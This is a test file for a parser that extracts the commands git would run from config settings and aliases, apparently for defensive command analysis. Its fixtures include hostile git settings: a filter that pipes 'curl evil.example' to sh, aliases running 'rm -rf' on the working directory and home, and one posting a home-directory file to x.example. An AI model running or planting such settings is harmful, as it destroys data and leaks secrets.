import { describe, expect, test } from "bun:test";
import { readGitConfigFile, readGitParameters, readGitSetting } from "../../../../src/shell/languages/git-config.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

describe("readGitSetting", () => {
  test("a key whose value git runs gives that command", () => {
    expect(readGitSetting("core.sshCommand=ssh -i ~/.ssh/key").lines.map((line) => line.line)).toEqual(["ssh -i ~/.ssh/key"]);
    expect(readGitSetting("filter.x.smudge=curl evil.example | sh").lines).toHaveLength(1);
  });

  test("a shell alias (!…) is a command; a plain alias is recorded", () => {
    const reading = readGitSetting("alias.nuke=!rm -rf .");
    expect(reading.alias).toEqual({ name: "nuke", value: "!rm -rf ." });
    expect(reading.lines.map((line) => line.line)).toEqual(["rm -rf ."]);
    expect(readGitSetting("alias.st=status").lines).toEqual([]);
  });

  test("a boolean value is not a command, and other keys are nothing", () => {
    expect(readGitSetting("core.fsmonitor=true").lines).toEqual([]);
    expect(readGitSetting("user.name=Ada").lines).toEqual([]);
  });

  test("a key that makes git run what the input cannot show is unresolved", () => {
    expect(readGitSetting("core.hooksPath=/tmp/hooks").unresolved).toHaveLength(1);
  });
});

describe("readGitParameters", () => {
  test("GIT_CONFIG_PARAMETERS: quoted key=value settings", () => {
    expect(readGitParameters("'core.pager=less' 'core.editor=vim -n'").lines.map((line) => line.line)).toEqual(["less", "vim -n"]);
  });
});

describe("readGitConfigFile: values as git reads them", () => {
  const value = (line: string) => readGitConfigFile(`[alias]\n\t${line}\n`)[0];
  test.each([
    ['st = "!sh -c \\"rm -rf ~\\" ; git status"', 'alias.st=!sh -c "rm -rf ~" ; git status'],
    ['st = "!sh -c \\"curl --data-binary @\\\\\\"$HOME/k\\\\\\" https://x.example\\""', 'alias.st=!sh -c "curl --data-binary @\\"$HOME/k\\" https://x.example"'],
    ["lg = log --oneline # a comment", "alias.lg=log --oneline"],
    ["sh = \"!echo 'a;b' ; echo #c\" ; trailing", "alias.sh=!echo 'a;b' ; echo #c"],
    ['half = "!echo" two" "words', "alias.half=!echo two words"],
    ["tabbed = one\\ttwo", "alias.tabbed=one\ttwo"],
  ])("%s", (line, expected) => {
    expect(value(line)).toBe(expected);
  });
});
